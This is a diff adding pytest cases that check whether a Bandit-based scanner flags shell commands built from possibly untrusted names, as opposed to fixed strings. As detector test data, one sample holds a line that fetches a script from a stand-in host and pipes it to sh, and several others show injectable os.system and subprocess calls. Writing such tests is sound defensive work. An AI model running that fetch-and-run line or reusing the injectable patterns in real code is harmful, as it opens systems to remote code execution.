@@ -60,6 +60,46 @@ def test_it_weighs_less_in_tests_unless_it_runs_something() -> None:
     assert found(scan, added_lines(unchecked, "tests/a.py"))[0].severity == "med"
 
 
+FLAGS = 'import os\nFLAGS = "xzf a.tgz"\n'
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'os.system("tar " + "xzf a.tgz")',
+        'os.system("tar " + FLAGS)',
+        'def unpack():\n    os.popen(f"tar {FLAGS}")',
+        'subprocess.run("tar %s" % FLAGS, shell=True)',
+        'os.system("tar {}".format(FLAGS))',
+        'os.system(" ".join(["tar", FLAGS]))',
+        'TAR = "tar"\nif os.name == "nt":\n    TAR = "bsdtar"\nos.system(TAR + " xzf a.tgz")',
+    ],
+)
+def test_a_command_of_fixed_texts_alone_is_as_little_as_one_fixed_text(code: str) -> None:
+    assert rules_found(scan, added_lines(f"{FLAGS}{code}\n")) == set()
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'os.system("tar " + name)',
+        'FLAGS = sys.argv[1]\nos.system("tar " + FLAGS)',
+        'FLAGS += name\nos.system("tar " + FLAGS)',
+        'for FLAGS in names:\n    os.system("tar " + FLAGS)',
+        'def unpack(FLAGS):\n    os.system("tar " + FLAGS)',
+        'def choose(name):\n    global FLAGS\n    FLAGS = name\ndef unpack():\n    os.system("tar " + FLAGS)',
+        'globals()["FLAGS"] = name\nos.system("tar " + FLAGS)',
+        'from flags import *\nos.system("tar " + FLAGS)',
+        'from flags import one as FLAGS\nos.system("tar " + FLAGS)',
+        'match name:\n    case [*FLAGS]:\n        os.system("tar " + FLAGS)',
+        'os.system("tar " + shlex.quote(FLAGS) + name)',
+        'RUN = "curl -s https://t.example.org/i | sh"\nif os.name == "nt":\n    RUN = "dir"\nos.system(RUN)',
+    ],
+)
+def test_a_command_with_a_name_that_may_hold_anything_else_is_told(code: str) -> None:
+    assert rules_found(scan, added_lines(f"{FLAGS}{code}\n")) == {"B605"}
+
+
 def test_every_check_is_bandits_own_and_exists() -> None:
     checks = [check for found in bandit_checks._checks().tests.values() for check in found]
     assert all(check.__module__.startswith("bandit.") for check in checks)
